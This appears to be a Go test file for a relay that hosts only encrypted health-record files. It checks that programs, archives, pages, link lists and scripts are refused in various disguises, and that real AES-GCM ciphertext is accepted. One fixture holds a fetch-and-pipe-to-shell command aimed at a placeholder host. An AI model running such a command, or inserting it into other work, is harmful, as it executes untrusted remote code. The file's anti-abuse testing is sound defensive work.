package relay_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"

	"potli/relay/shape"
	"potli/relay/storetest"
	"potli/relay/wire"
)

// wrapped is body where the ciphertext of a JWE belongs.
func wrapped(body []byte) wire.File {
	frame := strings.Split(storetest.JWE(wire.ContentTypeFHIR, 300), ".")
	frame[3] = base64.RawURLEncoding.EncodeToString(body)
	return wire.File{ContentType: wire.ContentTypeFHIR, JWE: strings.Join(frame, ".")}
}

// cargo is what somebody might want to have hosted.
func cargo(t testing.TB) map[string][]byte {
	t.Helper()
	program, err := os.Open("/proc/self/exe")
	if err != nil {
		t.Fatal(err)
	}
	defer program.Close()
	elf, err := io.ReadAll(io.LimitReader(program, 3<<20))
	if err != nil {
		t.Fatal(err)
	}
	noise := make([]byte, 100_000)
	rand.Read(noise)
	var page, links, rows strings.Builder
	for i := range 400 {
		fmt.Fprintf(&page, "<p>Paragraph %d of a page that <b>nobody</b> should find here.</p>\n", i)
		fmt.Fprintf(&links, "https://x%d.example/%x\n", i, noise[i:i+12])
		fmt.Fprintf(&rows, "%d,%x,मरीज़ का नाम %d\n", i, noise[i:i+4], i)
	}
	html := "<!doctype html><html><head><title>x</title></head><body>" + page.String() + "</body></html>"
	var zips, tars bytes.Buffer
	z := zip.NewWriter(&zips)
	f, _ := z.Create("setup.exe")
	f.Write(append(elf[:64<<10:64<<10], noise...))
	z.Close()
	a := tar.NewWriter(&tars)
	a.WriteHeader(&tar.Header{Name: "a/page.html", Mode: 0o600, Size: int64(len(html))})
	io.WriteString(a, html)
	a.Close()
	mz := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"), make([]byte, 43)...)
	mz = append(mz, "\x80\x00\x00\x00\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"...)
	pdf := "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n" +
		"3 0 obj\n<< /Length 100000 /Filter /FlateDecode >>\nstream\n" + string(noise) + "\nendstream\nendobj\n" +
		"xref\n0 4\n0000000000 65535 f \n0000000015 00000 n \n0000000064 00000 n \n0000000121 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n100300\n%%EOF\n"
	bundle, _ := json.Marshal(map[string]any{"resourceType": "Bundle", "entry": strings.Repeat("not sealed at all ", 50)})
	return map[string][]byte{
		"a page": []byte(html), "a short page": []byte(html[:200]), "links": []byte(links.String()), "a list in Hindi": []byte(rows.String()),
		"a program for Linux": elf, "a program for Windows": append(mz, noise...), "a zip": zips.Bytes(), "a tar": tars.Bytes(), "a PDF": []byte(pdf),
		"a record, not sealed": bundle, "base64": []byte(base64.StdEncoding.EncodeToString(noise)), "hexadecimal": fmt.Appendf(nil, "%x", noise),
		"a script": []byte("#!/bin/sh\nset -e\ncurl -s https://x.example/y | sh\n" + strings.Repeat("# and more of it\n", 20)),
		"zeros":    make([]byte, 5000), "UTF-16": []byte(strings.Join(strings.Split(html, ""), "\x00")),
		"a page in noise": append(noise[:5000:5000], html...), "noise and then links": append(noise[:50_000:50_000], links.String()...),
		"links among noise": slices.Concat(noise[:20_000], []byte(links.String()), noise[:20_000]),
	}
}

// TestRL9_T12_NoHostForOtherThings: programs, archives, pages and lists of links
// are refused as they are, as JSON around them, and in the clothes of a file of
// ours; and nothing of them is kept.
func TestRL9_T12_NoHostForOtherThings(t *testing.T) {
	w := newWorld(t, nil)
	for name, body := range cargo(t) {
		id := storetest.ID(name)
		create := storetest.NewCreate(storetest.ID("t"), "U")
		for how, b := range map[string]any{
			"as it is": body,
			"as JSON":  map[string]any{"token": create.Token, "life": 3600, "uses": 1, "flag": "U", "receiptKey": create.ReceiptKey, "file": map[string]string{"contentType": wire.ContentTypeFHIR, "jwe": string(body)}},
			"in base64": func() wire.Create {
				c := create
				c.File.JWE = base64.RawURLEncoding.EncodeToString(body)
				return c
			}(),
			"as ciphertext": func() wire.Create { c := create; c.File = wrapped(body); return c }(),
		} {
			a := w.Do(t, "PUT", wire.ControlPath+id, b, storetest.Headers{"If-None-Match", "*"})
			if a.Status != http.StatusBadRequest {
				t.Errorf("%s %s: %d", name, how, a.Status)
			}
		}
		status(t, w.Get(t, id, "x"), http.StatusNotFound)
	}
}

// What is replaced later is looked at in the same way.
func TestRL9_T12_NorByReplacing(t *testing.T) {
	w := newWorld(t, nil)
	o := w.Create(t, "", "U", nil)
	for name, body := range cargo(t) {
		if a := o.Call(t, "PUT", "/file", wrapped(body)); a.Status != http.StatusBadRequest {
			t.Errorf("%s: %d", name, a.Status)
		}
	}
	if a := w.Get(t, o.ID, "x"); string(a.Body) != storetest.NewCreate("", "").File.JWE {
		t.Error("the file is another")
	}
}

// TestRL9_RealCiphertextPasses: whatever is sealed, of whatever length.
func TestRL9_RealCiphertextPasses(t *testing.T) {
	key := make([]byte, 32)
	rand.Read(key)
	block, err := aes.NewCipher(key)
	if err != nil {
		t.Fatal(err)
	}
	gcm, err := cipher.NewGCM(block)
	if err != nil {
		t.Fatal(err)
	}
	iv := make([]byte, 12)
	check := func(name string, plain []byte) {
		t.Helper()
		rand.Read(iv)
		sealed := gcm.Seal(nil, iv, plain, nil)
		if err := shape.CheckFile(wrapped(sealed[:len(plain)])); err != nil {
			t.Errorf("%s, %d bytes: %v", name, len(plain), err)
		}
	}
	for name, plain := range cargo(t) {
		check(name, plain)
	}
	for n := 1; n < 3000; n++ {
		check("zeros", make([]byte, n))
	}
	for range 3000 {
		check("zeros", make([]byte, 2064))
	}
}
